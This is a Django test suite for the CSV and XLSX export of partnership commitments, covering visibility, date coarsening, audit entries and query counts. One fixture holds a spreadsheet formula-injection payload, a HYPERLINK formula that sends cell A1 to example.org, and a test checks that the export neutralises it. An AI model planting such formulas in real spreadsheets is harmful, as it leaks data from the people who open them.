"""Promises and figures as a table: what the reader may see, what no program runs, what is noted."""

import datetime as dt
import io
from decimal import Decimal
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils.translation import override
from python_calamine import CalamineWorkbook

from pobratym.audit.models import Entry
from pobratym.organisations.models import Body
from pobratym.partnerships.models import Commitment, Partnership, Value
from pobratym.tables.reading import Column, day, number, read
from pobratym.territory.operations import record_status
from pobratym.vocabulary.choices import Direction
from tests.partnerships.cast import AT, TODAY, agreed, member
from tests.partnerships.test_commitments import measure, promise

ALL = [
    Column("direction", ("Напрям", "Direction"), required=True),
    Column("text", ("Зобов’язання", "Commitment"), required=True),
    Column("origin", ("Походження зобов’язання", "Origin of the commitment")),
    Column("value", ("Значення", "Value"), read=number),
    Column("unit", ("Одиниця", "Unit")),
    Column("from", ("Перший день періоду", "First day of the period"), read=day),
    Column("to", ("Останній день періоду", "Last day of the period"), read=day),
    Column("proof", ("Чим доведено", "How it is proven")),
    Column("evidence", ("Доказ", "Evidence")),
    Column("origin_of_value", ("Походження значення", "Origin of the value")),
    Column("source", ("Джерело", "Source")),
]
ATTACK = '=HYPERLINK("http://example.org/?x="&A1;"акт")'


@pytest.fixture
def partnership(kalush: Body, zaporizhzhia: Body) -> Partnership:
    made = agreed(kalush, zaporizhzhia)
    energy = promise(made)
    measure(energy, proof="documented", evidence=ATTACK, origin="generated")
    measure(energy, amount=Decimal("-38.25"))
    promise(made, Direction.JOBS, text_uk="таємний план робочих місць", text_en="secret plan")
    return made


def export(client: Client, partnership: Partnership, kind: str) -> Any:
    return client.get(reverse("partnerships:export", args=[partnership.pk, kind]))


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("language", ["uk", "en"])
def test_table_holds_units_periods_proof_origin_and_source(
    client: Client, partnership: Partnership, kalush: Body, kind: str, language: str
) -> None:
    client.force_login(member("reader", kalush))
    with override(language):
        answer = export(client, partnership, kind)
        found = read(answer.content, columns=ALL)

    assert found.problems == []
    first, second, third = (row.values for row in found.rows)
    uk = language == "uk"
    assert first == {
        "direction": "Енергоефективність" if uk else "Energy efficiency",
        "text": "облік енергії у шести школах" if uk else "energy accounts of six schools",
        "origin": "Внесено власником" if uk else "Entered by its owner",
        "value": Decimal("-38.25"),
        "unit": "МВт·год" if uk else "MWh",
        "from": dt.date(2023, 1, 1),
        "to": dt.date(2023, 12, 31),
        "proof": "заявлено" if uk else "declared",
        "evidence": None,
        "origin_of_value": "Внесено власником" if uk else "Entered by its owner",
        "source": f"http://127.0.0.1:8000{'' if uk else '/en'}/partnerships/{partnership.pk}/directions/energy/",
    }
    assert (second["value"], second["evidence"], second["origin_of_value"]) == (
        Decimal("412.5"), ATTACK, "Приклад" if uk else "Example",
    )  # fmt: skip
    assert (third["text"], third["value"], third["unit"]) == (
        "таємний план робочих місць" if uk else "secret plan", None, None,
    )  # fmt: skip


def test_no_cell_runs(client: Client, partnership: Partnership, kalush: Body) -> None:
    client.force_login(member("reader", kalush))

    text = export(client, partnership, "csv").content.decode("utf-8-sig")
    book = CalamineWorkbook.from_filelike(io.BytesIO(export(client, partnership, "xlsx").content))

    assert "'=HYPERLINK" in text
    assert ";=" not in text
    assert ATTACK in [cell for row in book.get_sheet_by_index(0).to_python() for cell in row]
    assert book.sheet_names == ["Зобов’язання і значення"]


def test_file_is_named_typed_and_kept_by_nobody(client: Client, partnership: Partnership, kalush: Body) -> None:
    client.force_login(member("reader", kalush))

    answer = export(client, partnership, "xlsx")

    assert answer["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert answer["Content-Disposition"].startswith('attachment; filename="kalush-zaporizhzhia-20')
    assert "no-store" in answer["Cache-Control"]
    assert export(client, partnership, "pdf").status_code == 404


def test_stranger_gets_public_rows_only(client: Client, partnership: Partnership, chernivtsi: Body) -> None:
    assert export(client, partnership, "csv").status_code == 404
    Partnership.objects.update(visibility="public")
    Commitment.objects.filter(direction=Direction.ENERGY).update(visibility="public")
    Value.objects.filter(amount__gt=0).update(visibility="public")

    for someone in (None, member("coordinator", chernivtsi)):
        if someone is not None:
            client.force_login(someone)
        for kind in ("csv", "xlsx"):
            found = read(export(client, partnership, kind).content, columns=ALL)
            assert [(row.values["text"], row.values["value"]) for row in found.rows] == [
                ("облік енергії у шести школах", Decimal("412.5"))
            ]


def test_days_of_a_community_at_risk_are_months_for_strangers(
    client: Client, partnership: Partnership, kalush: Body, zaporizhzhia: Body
) -> None:
    for model in (Partnership, Commitment, Value):
        model.objects.update(visibility="public")
    record_status(
        unit=zaporizhzhia.unit, status="active", valid_from=TODAY, valid_to=None, source="наказ № 376", by=None, at=AT
    )

    outside = export(client, partnership, "csv").content.decode("utf-8-sig")
    client.force_login(member("reader", kalush))
    inside = export(client, partnership, "csv").content.decode("utf-8-sig")

    assert ("2023-12-31" in outside, ";12.2023;" in outside) == (False, True)
    assert "2023-12-31" in inside


def test_export_of_a_person_is_noted_and_a_stranger_leaves_none(
    client: Client, partnership: Partnership, kalush: Body
) -> None:
    person = member("reader", kalush)
    client.force_login(person)

    export(client, partnership, "csv")

    entry = Entry.objects.latest("pk")
    assert (entry.subject, entry.facts) == (
        f"audit.export:partnerships.partnership:{partnership.pk}", {"what": "table", "rows": 3, "kind": "csv"},
    )  # fmt: skip
    client.head(reverse("partnerships:export", args=[partnership.pk, "csv"]))
    client.logout()
    Partnership.objects.update(visibility="public")
    export(client, partnership, "csv")
    assert Entry.objects.latest("pk") == entry


def test_page_of_a_direction_leads_to_the_table(client: Client, partnership: Partnership, kalush: Body) -> None:
    client.force_login(member("reader", kalush))

    page = client.get(reverse("partnerships:direction", args=[partnership.pk, "energy"])).content.decode()

    for kind in ("csv", "xlsx"):
        assert reverse("partnerships:export", args=[partnership.pk, kind]) in page


def test_table_asks_as_often_for_three_values_as_for_one(
    client: Client, partnership: Partnership, kalush: Body
) -> None:
    Partnership.objects.update(visibility="public")
    Commitment.objects.update(visibility="public")
    Value.objects.update(visibility="public")
    counts = []
    for number_ in range(3):
        export(client, partnership, "csv")
        with CaptureQueriesContext(connection) as queries:
            export(client, partnership, "csv")
        counts.append(len(queries))
        measure(promise(partnership, visibility="public"), amount=number_ + 1, visibility="public")

    assert counts[0] == counts[1] == counts[2]
